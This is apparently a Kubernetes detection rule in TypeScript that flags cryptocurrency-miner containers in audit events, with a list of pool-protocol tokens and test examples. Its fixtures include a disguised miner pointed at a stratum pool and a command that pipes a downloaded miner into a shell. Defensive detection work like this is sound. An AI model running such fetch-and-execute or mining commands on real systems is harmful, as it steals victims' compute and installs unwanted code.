import { type AuditEvent } from '../../../kubernetes/auditEvent';
import { type ContainerView, WORKLOAD_RESOURCES, workloadContainers } from '../../../kubernetes/workloads';
import { type DetectionContext } from '../../detectionContext';
import { type AlertEntity, EntityType } from '../../entities';
import { container, workloadEvent } from '../../exampleEvents';
import { commandLineOf, imagesOf } from '../../predicates/podSecurity';
import { isJudgedPodSpecWrite, ownerEntities, workloadDedupKey } from '../../predicates/podSpecWrites';
import { redactText } from '../../redaction';
import { containerEntities, requestEntities } from '../../requestEntities';
import { defineRule, Intent, Severity } from '../../rule';

/** Command-line marks of a miner whatever its image: the pool protocol and XMRig's options. */
const MINER_COMMAND_TOKENS: readonly string[] = ['stratum+tcp://', 'stratum+ssl://', 'stratum+tls://', 'stratum2+tcp://', '--donate-level'];

interface MinerContainer {
  container: ContainerView;
  /** `image` or `command`. */
  signal: string;
  /** The listed pattern or the token that matched. */
  indicator: string;
}

/** Containers whose image is a listed miner, or whose command line names a listed miner or a mining pool protocol. */
function minerContainers(event: AuditEvent, context: DetectionContext): MinerContainer[] {
  const out: MinerContainer[] = [];
  for (const c of workloadContainers(event)) {
    const imagePattern = context.lists.miningImages.find(c.image);
    if (imagePattern !== undefined) {
      out.push({ container: c, signal: 'image', indicator: imagePattern });
      continue;
    }
    const commandLine = commandLineOf(c);
    if (commandLine === '') continue;
    const lower = commandLine.toLowerCase();
    const indicator = context.lists.miningImages.find(commandLine) ?? MINER_COMMAND_TOKENS.find((token) => lower.includes(token));
    if (indicator !== undefined) out.push({ container: c, signal: 'command', indicator });
  }
  return out;
}

const miner = (fields: Record<string, unknown>) => container({ name: 'worker', ...fields });
const xmrig = () => miner({ image: 'docker.io/metal3d/xmrig:latest' });

export const miningContainerImage = defineRule({
  id: 'mining-container-image',
  alertType: 'K8S_MaliciousContainerImage',
  displayName: 'Digital currency mining container detected',
  description:
    'A pod or workload was written with a container whose image is a known digital-currency miner (the `miningImages` list), ' +
    'or whose command or arguments run one (a listed miner name, a `stratum+tcp://` pool address, XMRig\'s `--donate-level`). ' +
    'Miners are what most attackers deploy first with stolen cluster access: the victim pays for the compute.',
  severity: Severity.High,
  intent: Intent.Execution,
  techniques: ['T1496', 'T1610'],
  remediation: [
    'Delete the workload and find out how the writing identity was obtained (leaked kubeconfig, token, CI credentials).',
    'Rotate that identity\'s credentials and review everything else it wrote.',
    'Restrict image sources with an admission policy (allowed registries, signed images).',
  ],
  falsePositives: [
    'Sanctioned mining or benchmarking workloads (rare in production clusters); add their images to an override of `miningImages`.',
  ],
  references: [
    'https://learn.microsoft.com/azure/defender-for-cloud/alerts-containers',
    'https://attack.mitre.org/techniques/T1496/',
  ],
  equivalents: { defender: ['K8S_MaliciousContainerImage'], falco: [], guardDuty: [], elastic: [] },
  resources: [...WORKLOAD_RESOURCES],
  match: (event, context) =>
    isJudgedPodSpecWrite(event, context) && minerContainers(event, context).length > 0,
  entities: (event, context) => {
    const found = minerContainers(event, context);
    const processes = found
      .filter((m) => m.signal === 'command')
      .map((m): AlertEntity => ({ type: EntityType.process, commandLine: redactText(commandLineOf(m.container)) }));
    return [...requestEntities(event), ...ownerEntities(event), ...containerEntities(found.map((m) => m.container)), ...processes];
  },
  details: (event, context) => {
    const found = minerContainers(event, context);
    return {
      containers: found.map((m) => m.container.name).join(', '),
      images: imagesOf(found.map((m) => m.container)).join(', '),
      indicators: found.map((m) => `${m.signal}: ${redactText(m.indicator)}`).join('; '),
    };
  },
  dedupKey: workloadDedupKey,
  examples: [
    {
      name: 'a deployment runs an xmrig image',
      expect: 'alert',
      event: workloadEvent('deployments', { containers: [xmrig()] }, { name: 'worker' }),
    },
    {
      name: 'a pod runs a plain image with a stratum pool address in its args',
      expect: 'alert',
      event: workloadEvent('pods', {
        containers: [
          miner({
            image: 'docker.io/library/ubuntu:22.04',
            command: ['/tmp/.cache/kworker'],
            args: ['-o', 'stratum+tcp://pool.example.net:3333', '-u', '4AbCdEf', '--donate-level=1'],
          }),
        ],
      }),
    },
    {
      name: 'a CronJob downloads and starts a miner in its init container',
      expect: 'alert',
      event: workloadEvent('cronjobs', {
        initContainers: [miner({ name: 'fetch', image: 'docker.io/library/alpine:3.20', command: ['sh', '-c', 'wget -qO- http://203.0.113.7/xmrig | sh'] })],
        containers: [container()],
      }),
    },
    {
      name: 'an ordinary deployment',
      expect: 'none',
      event: workloadEvent('deployments', { containers: [container({ args: ['--port', '8080'] })] }, { namespace: 'shop' }),
    },
    {
      name: 'the replicaset controller creates the pod of a miner deployment',
      expect: 'alert',
      event: workloadEvent('pods', { containers: [xmrig()] }, { user: 'system:serviceaccount:kube-system:replicaset-controller' }),
    },
    {
      name: 'a miner pod the API server refused',
      expect: 'none',
      event: workloadEvent('pods', { containers: [xmrig()] }, { code: 403 }),
    },
  ],
});
